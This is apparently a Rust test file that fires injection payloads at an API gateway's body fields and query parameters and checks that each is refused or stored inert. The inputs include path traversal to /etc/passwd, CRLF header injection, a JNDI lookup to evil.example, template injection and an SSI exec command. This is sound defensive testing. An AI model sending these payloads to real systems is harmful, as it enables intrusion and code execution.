//! Injection and legitimate-value corpora through the whole gateway, over
//! HTTPS against the real server.
//!
//! Every string field of every JSON body, and every query parameter, gets
//! each payload of an SQL-injection / XSS corpus (the screen's own corpus,
//! plus path-traversal and header-like values) in turn. Each answer must be
//! a 400 naming the field (`suspicious_input` for screened free text,
//! `invalid_request` for typed fields), or a success with the value stored
//! and read back byte for byte — never a 5xx, never markup in a response.
//! The other side: a corpus of legitimate values (apostrophes, other
//! scripts, emoji, punctuation, values at each field's bound) must all be
//! accepted and read back exactly. And malformed requests (unknown fields,
//! wrong content type, oversized or deep bodies, bad UIDs in the path) get
//! their specific 4xx in the one error shape, never echoing the value.

// Test code: failing loudly on unexpected errors is the point.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::disallowed_methods
)]

mod support;

use std::sync::Arc;

use palisade_client::{Client, Method};
use palisade_store::Store;
use serde_json::{Value, json};
use support::{Resp, call, send, unique};
use tokio::sync::Semaphore;

const ATTACKS: &str = include_str!("../../palisade-core/tests/data/screen/attacks.txt");
const LEGIT: &str = include_str!("../../palisade-core/tests/data/screen/legit.txt");

/// The values of a corpus: one a line, `;;` comments and blank lines skipped.
fn corpus(text: &str) -> Vec<String> {
    text.lines()
        .filter(|l| !l.is_empty() && !l.starts_with(";;"))
        .map(str::to_owned)
        .collect()
}

/// The screen's attack corpus plus path traversal, header-like and template
/// payloads.
fn attacks() -> Vec<String> {
    let mut out = corpus(ATTACKS);
    for extra in [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "..%252f..%252fetc%252fpasswd",
        "....//....//etc/passwd",
        "/etc/shadow\u{0}.png",
        "file:///etc/passwd",
        "x\r\nSet-Cookie: session=stolen",
        "x%0d%0aSet-Cookie:%20session=stolen",
        "X-Forwarded-For: 127.0.0.1",
        "Host: evil.example",
        "Authorization: Bearer eyJhbGciOiJub25lIn0.e30.",
        "\u{1b}[31mred\u{1b}[0m",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<!--#exec cmd=\"id\"-->",
    ] {
        out.push(extra.to_owned());
    }
    out
}

/// Legitimate free text: the screen's corpus plus multi-line text, format
/// characters, and nothing longer than `max` characters.
fn legit(max: usize) -> Vec<String> {
    let mut out: Vec<String> = corpus(LEGIT);
    out.extend(
        [
            "O'Reilly",
            "Line one\r\nLine two: it's \"fine\"\r\n\tindented -- ok",
            "col1\tcol2\tcol3\nO'Reilly\t50%\ta <= b",
            "👩\u{200d}💻 and क्\u{200d}ष",
            "می\u{200c}خواهم",
            "Order \u{200f}#123\u{200e} (שלום)",
            "Ship it! (v2.0) — 100% done; ETA: Fri @ 5pm? [yes/no] {ok} <fine> & more...",
        ]
        .map(str::to_owned),
    );
    out.retain(|v| v.chars().count() <= max && !v.trim().is_empty());
    out
}

/// Long values exactly at a field's bound, in several scripts.
fn at_bound(n: usize) -> Vec<String> {
    [
        "O'Reilly ",
        "Grüße ",
        "東京の開発チーム",
        "مرحبا ",
        "🚀",
        "Ωμέγα ",
    ]
    .iter()
    .map(|unit| unit.chars().cycle().take(n).collect::<String>())
    .collect()
}

/// What a field is, and so what may happen to an attack in it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Screened free text: refused as suspicious or stored exactly.
    FreeText,
    /// A typed value (name, UID, enum, permission, number): refused.
    Typed,
    /// An email: refused, or stored exactly.
    Email,
    /// A write-only secret (cloud credentials): stored sealed or refused,
    /// never shown.
    Secret,
    /// A credential checked by authentication: refused without detail.
    Auth,
}

/// Where a stored value can be read back.
#[derive(Debug, Clone)]
enum Read {
    /// Nowhere (typed values, secrets, auth fields).
    None,
    /// In the created object: its UID at `uid`, then `GET {get}{uid}` at `at`.
    Created {
        uid: &'static str,
        get: &'static str,
        at: &'static str,
    },
    /// `GET get` at `at`.
    Fixed { get: String, at: &'static str },
    /// In the creation answer at `at`, trimmed (API key names are stored
    /// trimmed).
    AnswerTrimmed { at: &'static str },
}

type Base = Arc<dyn Fn(usize) -> Value + Send + Sync>;

#[derive(Clone)]
struct Field {
    method: Method,
    path: String,
    token: Option<String>,
    /// A valid body, given a fresh number for unique names.
    base: Base,
    /// JSON pointer of the field in the body.
    pointer: &'static str,
    /// The field's name as error messages give it.
    name: &'static str,
    kind: Kind,
    read: Read,
}

impl std::fmt::Debug for Field {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{} {} {}", self.method, self.path, self.pointer)
    }
}

fn base(f: impl Fn(usize) -> Value + Send + Sync + 'static) -> Base {
    Arc::new(f)
}

/// The tenant the body fields are tried in.
struct Ctx {
    s: palisade_testkit::TestServer,
    root: String,
    admin: String,
    victim: String,
    team: String,
    role: String,
    project: String,
}

async fn ctx() -> Ctx {
    let (s, root) = support::server().await;
    let c = &s.client;
    let (_, _, admin) = support::tenant(c, &root, "acme").await;
    let victim = call(
        c,
        Method::POST,
        "/v1/users",
        Some(&admin),
        Some(&json!({"email": "victim@acme.test", "displayName": "Victim"})),
    )
    .await
    .ok();
    let victim = victim.body["user"]["uid"].as_str().unwrap().to_owned();
    let team = call(
        c,
        Method::POST,
        "/v1/teams",
        Some(&admin),
        Some(&json!({"name": "ops"})),
    )
    .await
    .ok()
    .str("uid");
    let role = call(
        c,
        Method::POST,
        "/v1/roles",
        Some(&admin),
        Some(&json!({"name": "reader", "permissions": ["cluster.get"]})),
    )
    .await
    .ok()
    .str("uid");
    let project = call(
        c,
        Method::POST,
        "/v1/projects",
        Some(&admin),
        Some(&json!({"name": "web"})),
    )
    .await
    .ok()
    .str("uid");
    Ctx {
        s,
        root,
        admin,
        victim,
        team,
        role,
        project,
    }
}

impl Ctx {
    /// Every string field of every authenticated JSON body.
    fn body_fields(&self) -> Vec<Field> {
        use Kind::*;
        let a = Some(self.admin.clone());
        let (victim, team, role, project) = (
            self.victim.clone(),
            self.team.clone(),
            self.role.clone(),
            self.project.clone(),
        );
        let user = base(|n| json!({"email": format!("u{n}@acme.test"), "displayName": "User"}));
        let binding = {
            let victim = victim.clone();
            base(
                move |_| json!({"subjectKind": "user", "subjectUid": victim, "role": "project-viewer"}),
            )
        };
        let named = base(|n| json!({"name": format!("n{n}")}));
        let role_body = base(|n| json!({"name": format!("r{n}"), "permissions": ["cluster.get"]}));
        let account = base(
            |n| json!({"name": format!("a{n}"), "provider": "aws", "credentials": "{\"k\":\"v\"}"}),
        );
        let descr = base(|_| json!({"description": "d"}));
        let f = |method: Method,
                 path: String,
                 base: &Base,
                 pointer: &'static str,
                 name: &'static str,
                 kind: Kind,
                 read: Read| Field {
            method,
            path,
            token: a.clone(),
            base: Arc::clone(base),
            pointer,
            name,
            kind,
            read,
        };
        let p = |rest: &str| format!("/v1/projects/{project}{rest}");
        vec![
            f(
                Method::POST,
                "/v1/users".into(),
                &user,
                "/email",
                "email",
                Email,
                Read::Created {
                    uid: "/user/uid",
                    get: "/v1/users/",
                    at: "/email",
                },
            ),
            f(
                Method::POST,
                "/v1/users".into(),
                &user,
                "/displayName",
                "displayName",
                FreeText,
                Read::Created {
                    uid: "/user/uid",
                    get: "/v1/users/",
                    at: "/displayName",
                },
            ),
            f(
                Method::POST,
                "/v1/users".into(),
                &user,
                "/role",
                "role",
                Typed,
                Read::None,
            ),
            f(
                Method::PATCH,
                format!("/v1/users/{victim}"),
                &base(|_| json!({"displayName": "x"})),
                "/displayName",
                "displayName",
                FreeText,
                Read::Fixed {
                    get: format!("/v1/users/{victim}"),
                    at: "/displayName",
                },
            ),
            f(
                Method::POST,
                "/v1/teams".into(),
                &named,
                "/name",
                "name",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/teams".into(),
                &named,
                "/description",
                "description",
                FreeText,
                Read::Created {
                    uid: "/uid",
                    get: "/v1/teams/",
                    at: "/description",
                },
            ),
            f(
                Method::PATCH,
                format!("/v1/teams/{team}"),
                &descr,
                "/description",
                "description",
                FreeText,
                Read::Fixed {
                    get: format!("/v1/teams/{team}"),
                    at: "/description",
                },
            ),
            f(
                Method::POST,
                format!("/v1/teams/{team}/members"),
                &base(|_| json!({"userUid": "000000000000"})),
                "/userUid",
                "userUid",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/roles".into(),
                &role_body,
                "/name",
                "name",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/roles".into(),
                &role_body,
                "/description",
                "description",
                FreeText,
                Read::Created {
                    uid: "/uid",
                    get: "/v1/roles/",
                    at: "/description",
                },
            ),
            f(
                Method::POST,
                "/v1/roles".into(),
                &role_body,
                "/permissions/0",
                "permissions",
                Typed,
                Read::None,
            ),
            f(
                Method::PATCH,
                format!("/v1/roles/{role}"),
                &descr,
                "/description",
                "description",
                FreeText,
                Read::Fixed {
                    get: format!("/v1/roles/{role}"),
                    at: "/description",
                },
            ),
            f(
                Method::PATCH,
                format!("/v1/roles/{role}"),
                &base(|_| json!({"permissions": ["cluster.get"]})),
                "/permissions/0",
                "permissions",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/rolebindings".into(),
                &binding,
                "/subjectKind",
                "subjectKind",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/rolebindings".into(),
                &binding,
                "/subjectUid",
                "subjectUid",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/rolebindings".into(),
                &binding,
                "/role",
                "role",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/rolebindings".into(),
                &binding,
                "/projectUid",
                "projectUid",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/projects".into(),
                &named,
                "/name",
                "name",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/projects".into(),
                &named,
                "/description",
                "description",
                FreeText,
                Read::Created {
                    uid: "/uid",
                    get: "/v1/projects/",
                    at: "/description",
                },
            ),
            f(
                Method::PATCH,
                p(""),
                &descr,
                "/description",
                "description",
                FreeText,
                Read::Fixed {
                    get: p(""),
                    at: "/description",
                },
            ),
            f(
                Method::POST,
                p("/rolebindings"),
                &binding,
                "/subjectKind",
                "subjectKind",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                p("/rolebindings"),
                &binding,
                "/subjectUid",
                "subjectUid",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                p("/rolebindings"),
                &binding,
                "/role",
                "role",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                p("/rolebindings"),
                &binding,
                "/projectUid",
                "projectUid",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                p("/cloudaccounts"),
                &account,
                "/name",
                "name",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                p("/cloudaccounts"),
                &account,
                "/provider",
                "provider",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                p("/cloudaccounts"),
                &account,
                "/credentials",
                "credentials",
                Secret,
                Read::None,
            ),
            f(
                Method::POST,
                p("/clusters"),
                &named,
                "/name",
                "name",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                p("/clusters"),
                &named,
                "/cloudAccountUid",
                "cloudAccountUid",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/apikeys".into(),
                &base(|_| json!({"name": "k"})),
                "/name",
                "name",
                FreeText,
                Read::AnswerTrimmed { at: "/apiKey/name" },
            ),
            f(
                Method::POST,
                "/v1/apikeys".into(),
                &base(|_| json!({"name": "k", "expiresInDays": 1})),
                "/expiresInDays",
                "expiresInDays",
                Typed,
                Read::None,
            ),
            f(
                Method::PUT,
                "/v1/settings/mfa".into(),
                &base(|_| json!({"required": false})),
                "/required",
                "required",
                Typed,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/me/mfa/totp/confirm".into(),
                &base(|_| json!({"code": "000000"})),
                "/code",
                "code",
                Auth,
                Read::None,
            ),
            f(
                Method::POST,
                "/v1/me/mfa/totp/disable".into(),
                &base(|_| json!({"code": "000000"})),
                "/code",
                "code",
                Auth,
                Read::None,
            ),
            Field {
                token: Some(self.root.clone()),
                ..f(
                    Method::POST,
                    "/v1/tenants".into(),
                    &base(|n| json!({"name": format!("t{n}"), "adminEmail": "a@b.test"})),
                    "/name",
                    "name",
                    Typed,
                    Read::None,
                )
            },
            Field {
                token: Some(self.root.clone()),
                ..f(
                    Method::POST,
                    "/v1/tenants".into(),
                    &base(|n| json!({"name": format!("t{n}"), "adminEmail": "a@b.test"})),
                    "/adminEmail",
                    "adminEmail",
                    Email,
                    Read::None,
                )
            },
        ]
    }

    /// Every string field of the authentication bodies.
    fn auth_fields(&self) -> Vec<Field> {
        let login = base(
            |_| json!({"tenant": "acme", "email": "admin@acme.test", "password": "not the password"}),
        );
        let mfa = base(|_| json!({"mfaToken": "x.y.z", "code": "000000"}));
        let refresh = base(|_| json!({"refreshToken": "not-a-token"}));
        let password = base(
            |_| json!({"tenant": "acme", "email": "admin@acme.test", "currentPassword": "nope", "newPassword": "copper meadow sings at dusk 42"}),
        );
        let f = |path: &str, base: &Base, pointer: &'static str, name: &'static str| Field {
            method: Method::POST,
            path: path.to_owned(),
            token: None,
            base: Arc::clone(base),
            pointer,
            name,
            kind: Kind::Auth,
            read: Read::None,
        };
        vec![
            f("/v1/auth/login", &login, "/tenant", "tenant"),
            f("/v1/auth/login", &login, "/email", "email"),
            f("/v1/auth/login", &login, "/password", "password"),
            f("/v1/auth/mfa", &mfa, "/mfaToken", "mfaToken"),
            f("/v1/auth/mfa", &mfa, "/code", "code"),
            f(
                "/v1/auth/mfa",
                &json_base(json!({"mfaToken": "x.y.z", "recoveryCode": "x"})),
                "/recoveryCode",
                "recoveryCode",
            ),
            f(
                "/v1/auth/refresh",
                &refresh,
                "/refreshToken",
                "refreshToken",
            ),
            f("/v1/auth/password", &password, "/tenant", "tenant"),
            f("/v1/auth/password", &password, "/email", "email"),
            f(
                "/v1/auth/password",
                &password,
                "/currentPassword",
                "currentPassword",
            ),
            f(
                "/v1/auth/password",
                &password,
                "/newPassword",
                "newPassword",
            ),
        ]
    }
}

fn json_base(v: Value) -> Base {
    Arc::new(move |_| v.clone())
}

/// Sets the field at `pointer`, adding it to its object when absent.
fn set(body: &mut Value, pointer: &str, value: Value) {
    if let Some(slot) = body.pointer_mut(pointer) {
        *slot = value;
        return;
    }
    let (parent, key) = pointer.rsplit_once('/').unwrap();
    body.pointer_mut(parent)
        .unwrap()
        .as_object_mut()
        .unwrap()
        .insert(key.to_owned(), value);
}

/// What every answer must be, whatever the input: no 5xx, JSON (or empty),
/// no raw markup, errors in the one shape with the header's request UID,
/// and the value never echoed in an error.
fn common(r: &Resp, value: &str, what: &str) -> Result<(), String> {
    if r.status >= 500 {
        return Err(format!("{what}: {} {}", r.status, r.text()));
    }
    let text = r.text();
    if text.contains('<') || text.contains('>') {
        return Err(format!("{what}: raw markup in the answer: {text}"));
    }
    if r.status >= 400 {
        let keys: Vec<&str> = r
            .body
            .as_object()
            .map(|o| o.keys().map(String::as_str).collect())
            .unwrap_or_default();
        if keys != ["code", "message", "requestUid"] {
            return Err(format!("{what}: not the error shape: {text}"));
        }
        if r.body["requestUid"] != json!(r.request_uid) || r.request_uid.len() != 12 {
            return Err(format!(
                "{what}: request UID differs from the header: {text}"
            ));
        }
        let echoed = value.chars().count() >= 6
            && value.chars().any(|c| !c.is_alphanumeric())
            && r.body["message"].as_str().unwrap_or("").contains(value);
        if echoed {
            return Err(format!("{what}: the error echoes the value: {text}"));
        }
    }
    Ok(())
}

/// Sends `value` in `field`, checks the answer, and reads a stored value
/// back. Returns a problem, if any.
async fn attempt(c: &Client, field: &Field, value: &str, legit: bool) -> Result<u16, String> {
    // The canary records what goes into a secret field (a password, a
    // cloud credential) and fails the run if it shows up in clear in any
    // log or database file. The same corpus is also stored, by design, as
    // free text; a marker on each line (the canary records a secret line by
    // line) keeps each secret-field value apart.
    let marked;
    let value = if palisade_testkit::canary::SECRET_KEYS.contains(&field.name) {
        let n = unique();
        marked = value
            .split('\n')
            .map(|line| format!("#{n}:{line}"))
            .collect::<Vec<_>>()
            .join("\n");
        marked.as_str()
    } else {
        value
    };
    let mut body = (field.base)(unique());
    set(&mut body, field.pointer, json!(value));
    let r = call(
        c,
        field.method.clone(),
        &field.path,
        field.token.as_deref(),
        Some(&body),
    )
    .await;
    let what = format!("{field:?} = {value:?}");
    common(&r, value, &what)?;
    let message = r.body["message"].as_str().unwrap_or("");
    let names_field = message.starts_with(field.name);
    match (field.kind, r.status) {
        (Kind::Auth, 400 | 401 | 409 | 429) => return Ok(r.status),
        (Kind::Auth, _) => return Err(format!("{what}: {} {}", r.status, r.text())),
        (_, 400) if legit => {
            return Err(format!(
                "{what}: a legitimate value was refused: {}",
                r.text()
            ));
        }
        (Kind::FreeText | Kind::Email, 400)
            if names_field && matches!(r.code(), "suspicious_input" | "invalid_request") =>
        {
            return Ok(400);
        }
        (Kind::Typed | Kind::Secret, 400) if names_field && r.code() == "invalid_request" => {
            return Ok(400);
        }
        (Kind::Typed, _) => return Err(format!("{what}: {} {}", r.status, r.text())),
        (_, 200..=299) => {}
        _ => return Err(format!("{what}: {} {}", r.status, r.text())),
    }
    if field.kind == Kind::Secret && r.text().contains(value) {
        return Err(format!(
            "{what}: a write-only value was shown: {}",
            r.text()
        ));
    }
    // Accepted: stored exactly, and shown only escaped.
    let stored = match &field.read {
        Read::None => return Ok(r.status),
        Read::AnswerTrimmed { at } => {
            let got = r
                .body
                .pointer(at)
                .and_then(Value::as_str)
                .unwrap_or("<none>");
            return if got == value.trim() {
                Ok(r.status)
            } else {
                Err(format!("{what}: stored as {got:?}"))
            };
        }
        Read::Created { uid, get, at } => {
            let uid = r.body.pointer(uid).and_then(Value::as_str).unwrap();
            let g = call(
                c,
                Method::GET,
                &format!("{get}{uid}"),
                field.token.as_deref(),
                None,
            )
            .await;
            (g, *at)
        }
        Read::Fixed { get, at } => {
            let g = call(c, Method::GET, get, field.token.as_deref(), None).await;
            (g, *at)
        }
    };
    let (g, at) = stored;
    common(&g, value, &what)?;
    let got = g.body.pointer(at).and_then(Value::as_str);
    if got != Some(value) {
        return Err(format!("{what}: read back {got:?}"));
    }
    for raw in [r.text(), g.text()] {
        if raw.contains('<') || raw.contains('>') || raw.contains('\'') || raw.contains('&') {
            return Err(format!("{what}: the value is not escaped: {raw}"));
        }
    }
    Ok(r.status)
}

/// Tries every value in every field, 8 requests at a time; returns the
/// problems and how many attempts got each status.
async fn run(
    c: &Client,
    fields: Vec<Field>,
    values: Vec<String>,
    legit: bool,
) -> (Vec<String>, std::collections::BTreeMap<u16, usize>) {
    let gate = Arc::new(Semaphore::new(8));
    let mut tasks = tokio::task::JoinSet::new();
    for field in fields {
        // A field of one fixed object is changed one value at a time, so
        // each read-back sees its own value.
        let batches: Vec<Vec<String>> = if matches!(field.read, Read::Fixed { .. }) {
            vec![values.clone()]
        } else {
            values.iter().map(|v| vec![v.clone()]).collect()
        };
        for batch in batches {
            let (c, field, gate) = (c.clone(), field.clone(), Arc::clone(&gate));
            tasks.spawn(async move {
                let mut out = Vec::new();
                for v in batch {
                    let _permit = gate.acquire().await.unwrap();
                    out.push(attempt(&c, &field, &v, legit).await);
                }
                out
            });
        }
    }
    let mut problems = Vec::new();
    let mut statuses = std::collections::BTreeMap::new();
    while let Some(r) = tasks.join_next().await {
        for r in r.unwrap() {
            match r {
                Ok(status) => *statuses.entry(status).or_insert(0) += 1,
                Err(p) => problems.push(p),
            }
        }
    }
    (problems, statuses)
}

/// Nothing an attack said was executed: the fixtures are intact and the
/// audit log verifies.
async fn intact(x: &Ctx) {
    let c = &x.s.client;
    for path in [
        format!("/v1/users/{}", x.victim),
        format!("/v1/teams/{}", x.team),
        format!("/v1/roles/{}", x.role),
        format!("/v1/projects/{}", x.project),
    ] {
        call(c, Method::GET, &path, Some(&x.admin), None).await.ok();
    }
    let tenants = call(c, Method::GET, "/v1/tenants", Some(&x.root), None)
        .await
        .ok();
    assert!(tenants.text().contains("\"acme\""));
    for report in x.s.running.store.verify_audit(None).await.unwrap() {
        assert!(report.problem.is_none(), "{report:?}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attacks_in_every_body_field_are_refused_or_stored_inert() {
    let x = ctx().await;
    let attacks = attacks();
    assert!(attacks.len() > 200, "{}", attacks.len());
    let fields = x.body_fields();
    let n = fields.len() * attacks.len();
    let (problems, statuses) = run(&x.s.client, fields, attacks, false).await;
    println!("{n} attempts: {statuses:?}");
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    intact(&x).await;
    x.s.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attacks_in_authentication_bodies_are_refused() {
    let x = ctx().await;
    let fields = x.auth_fields();
    let attacks = attacks();
    let n = fields.len() * attacks.len();
    let (problems, statuses) = run(&x.s.client, fields, attacks, false).await;
    println!("{n} attempts: {statuses:?}");
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    // The admin still logs in (from another address: this one is
    // throttled after so many failures): no attack changed the account.
    let other =
        x.s.client_from(std::net::IpAddr::from([127, 0, 0, 3]))
            .unwrap();
    support::login(&other, "acme", "admin@acme.test", support::GOOD).await;
    intact(&x).await;
    x.s.stop().await.unwrap();
}

/// Percent-encodes everything but unreserved characters.
fn encode(v: &str) -> String {
    v.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attacks_in_every_query_parameter_are_refused() {
    let x = ctx().await;
    let c = &x.s.client;
    let p = &x.project;
    let t = &x.team;
    let mut targets: Vec<(String, &str, &str)> = Vec::new();
    for list in [
        "/v1/users".to_owned(),
        "/v1/teams".to_owned(),
        "/v1/roles".to_owned(),
        "/v1/rolebindings".to_owned(),
        "/v1/apikeys".to_owned(),
        "/v1/projects".to_owned(),
        format!("/v1/projects/{p}/rolebindings"),
        format!("/v1/projects/{p}/cloudaccounts"),
        format!("/v1/projects/{p}/clusters"),
        "/v1/tenants".to_owned(),
        format!("/v1/teams/{t}/members"),
    ] {
        for param in ["after", "limit"] {
            let token = if list == "/v1/tenants" {
                &x.root
            } else {
                &x.admin
            };
            targets.push((list.clone(), param, token));
        }
    }
    for param in [
        "tenant", "from", "to", "actor", "action", "target", "outcome", "after", "limit", "order",
    ] {
        targets.push(("/v1/audit".to_owned(), param, &x.admin));
    }
    let attacks = attacks();
    let gate = Arc::new(Semaphore::new(8));
    let mut tasks = tokio::task::JoinSet::new();
    for (path, param, token) in &targets {
        for v in &attacks {
            let url = format!("{path}?{param}={}", encode(v));
            let (c, v, gate, token, param) = (
                c.clone(),
                v.clone(),
                Arc::clone(&gate),
                token.to_string(),
                param.to_string(),
            );
            tasks.spawn(async move {
                let _permit = gate.acquire().await.unwrap();
                let r = call(&c, Method::GET, &url, Some(&token), None).await;
                let what = format!("GET {url}");
                common(&r, &v, &what)?;
                let message = r.body["message"].as_str().unwrap_or("");
                // An action filter is a name: one that merely looks odd is
                // data, bound as a parameter, and matches nothing.
                let a_name = param == "action"
                    && v.len() <= 64
                    && v.bytes().all(|b| {
                        b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'.' || b == b'-'
                    });
                let refused =
                    r.status == 400 && r.code() == "invalid_request" && message.contains(&param);
                let inert = a_name && r.status == 200 && r.body["items"] == json!([]);
                if refused || inert {
                    Ok(())
                } else {
                    Err(format!("{what}: {} {}", r.status, r.text()))
                }
            });
        }
    }
    let mut problems = Vec::new();
    let mut n = 0;
    while let Some(r) = tasks.join_next().await {
        n += 1;
        if let Err(p) = r.unwrap() {
            problems.push(p);
        }
    }
    println!("{n} attempts");
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    intact(&x).await;
    x.s.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn legitimate_values_are_accepted_and_read_back_exactly() {
    let x = ctx().await;
    let free: Vec<Field> = x
        .body_fields()
        .into_iter()
        .filter(|f| f.kind == Kind::FreeText)
        .collect();
    assert_eq!(free.len(), 9, "{free:?}");
    let (short, long): (Vec<Field>, Vec<Field>) =
        free.into_iter().partition(|f| f.name != "description");
    // Display names (and API key names): up to 200 characters.
    let mut names = legit(200);
    names.extend(at_bound(200));
    let mut descriptions = legit(1000);
    descriptions.extend(at_bound(1000));
    descriptions.push(String::new());
    let n = names.len() * short.len() + descriptions.len() * long.len();
    let (mut problems, statuses) = run(&x.s.client, short.clone(), names, true).await;
    let (more, more_statuses) = run(&x.s.client, long.clone(), descriptions, true).await;
    problems.extend(more);
    println!("{n} attempts: {statuses:?} {more_statuses:?}");
    assert!(problems.is_empty(), "{}", problems.join("\n"));

    // One past the bound is refused, naming the field, in every script.
    let c = &x.s.client;
    for (fields, n) in [(&short, 201), (&long, 1001)] {
        for f in fields {
            for v in at_bound(n) {
                let mut body = (f.base)(unique());
                set(&mut body, f.pointer, json!(v));
                let r = call(
                    c,
                    f.method.clone(),
                    &f.path,
                    f.token.as_deref(),
                    Some(&body),
                )
                .await;
                assert_eq!(
                    (r.status, r.code()),
                    (400, "invalid_request"),
                    "{f:?} with {n} characters: {}",
                    r.text()
                );
                assert!(r.body["message"].as_str().unwrap().starts_with(f.name));
            }
        }
    }
    // Legitimate emails, apostrophes included, and addresses that
    // libinjection reads as a number, an operator and a `@variable` (the
    // last one found by Schemathesis).
    for email in [
        "o'reilly@example.com",
        "first.last+tag@example.co.uk",
        "user_name-1@sub.example.org",
        "D'Angelo.Russell@example.com",
        "1*@example.org",
        "0~\u{d48f1}\u{bb}\u{be}\u{100}*@\u{111}",
    ] {
        let r = call(
            c,
            Method::POST,
            "/v1/users",
            Some(&x.admin),
            Some(&json!({"email": email, "displayName": "Mail user"})),
        )
        .await
        .ok();
        let uid = r.body["user"]["uid"].as_str().unwrap();
        let g = call(
            c,
            Method::GET,
            &format!("/v1/users/{uid}"),
            Some(&x.admin),
            None,
        )
        .await
        .ok();
        assert_eq!(g.str("email"), email);
        assert!(!g.text().contains('\''), "{}", g.text());
    }
    intact(&x).await;
    x.s.stop().await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_requests_get_their_specific_4xx_in_the_error_shape() {
    let x = ctx().await;
    let c = &x.s.client;
    let a = Some(x.admin.as_str());
    let check = |r: &Resp, status: u16, code: &str, secret: &str, what: &str| {
        assert_eq!((r.status, r.code()), (status, code), "{what}: {}", r.text());
        common(r, secret, what).unwrap();
        let message = r.body["message"].as_str().unwrap();
        assert!(!message.contains(secret), "{what} echoes: {}", r.text());
    };

    // Unknown fields are named; their values never shown.
    let r = call(
        c,
        Method::POST,
        "/v1/teams",
        a,
        Some(&json!({"name": "extra", "colour": "hunter2-secret"})),
    )
    .await;
    check(
        &r,
        400,
        "invalid_request",
        "hunter2-secret",
        "unknown field",
    );
    assert!(r.text().contains("colour"), "{}", r.text());
    let r = call(
        c,
        Method::POST,
        "/v1/auth/login",
        None,
        Some(&json!({"tenant": "acme", "email": "admin@acme.test", "password": "pw-secret-1", "tenantUid": "x"})),
    )
    .await;
    check(
        &r,
        400,
        "invalid_request",
        "pw-secret-1",
        "unknown login field",
    );
    // An unknown key is request text too: named only when it looks like a
    // field name.
    let r = call(
        c,
        Method::POST,
        "/v1/teams",
        a,
        Some(&json!({"name": "extra", "x' OR '1'='1": 1})),
    )
    .await;
    check(&r, 400, "invalid_request", "x' OR", "a payload as a key");
    assert!(r.text().contains("unknown field"), "{}", r.text());

    // Content type: JSON only.
    for ct in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "application/jsonx",
        "multipart/form-data; boundary=x",
    ] {
        let r = send(
            c,
            Method::POST,
            "/v1/teams",
            a,
            Some((ct, br#"{"name":"zz-secret-zz"}"#.to_vec())),
        )
        .await;
        check(&r, 415, "unsupported_media_type", "zz-secret-zz", ct);
    }
    let r = send(c, Method::POST, "/v1/teams", a, None).await;
    check(&r, 415, "unsupported_media_type", "zz-secret-zz", "no body");
    // A JSON content type with parameters is fine.
    let r = send(
        c,
        Method::POST,
        "/v1/teams",
        a,
        Some((
            "application/json; charset=utf-8",
            br#"{"name":"charset"}"#.to_vec(),
        )),
    )
    .await;
    assert_eq!(r.status, 201, "{}", r.text());

    // Size: 64 KiB is the limit.
    let big = format!(
        r#"{{"name":"big","description":"{}"}}"#,
        "a".repeat(64 * 1024)
    );
    let r = send(
        c,
        Method::POST,
        "/v1/teams",
        a,
        Some(("application/json", big.into_bytes())),
    )
    .await;
    check(
        &r,
        413,
        "payload_too_large",
        "aaaaaaaaaaaaaaaa",
        "65 KiB body",
    );

    // Nesting: 16 levels at most, counted outside strings.
    let deep = |n: usize| {
        format!(
            r#"{{"name":"zz-deep-zz","description":{}"x"{}}}"#,
            "[".repeat(n),
            "]".repeat(n)
        )
    };
    let r = send(
        c,
        Method::POST,
        "/v1/teams",
        a,
        Some(("application/json", deep(20).into_bytes())),
    )
    .await;
    check(&r, 400, "invalid_request", "zz-deep-zz", "nesting 21");
    assert!(r.text().contains("nested deeper"), "{}", r.text());
    let r = send(
        c,
        Method::POST,
        "/v1/teams",
        a,
        Some(("application/json", deep(14).into_bytes())),
    )
    .await;
    check(
        &r,
        400,
        "invalid_request",
        "zz-deep-zz",
        "nesting 15, wrong type",
    );
    assert!(!r.text().contains("nested deeper"), "{}", r.text());
    let r = send(
        c,
        Method::POST,
        "/v1/teams",
        a,
        Some((
            "application/json",
            format!(r#"{{"name":"{}"}}"#, "[".repeat(40)).into_bytes(),
        )),
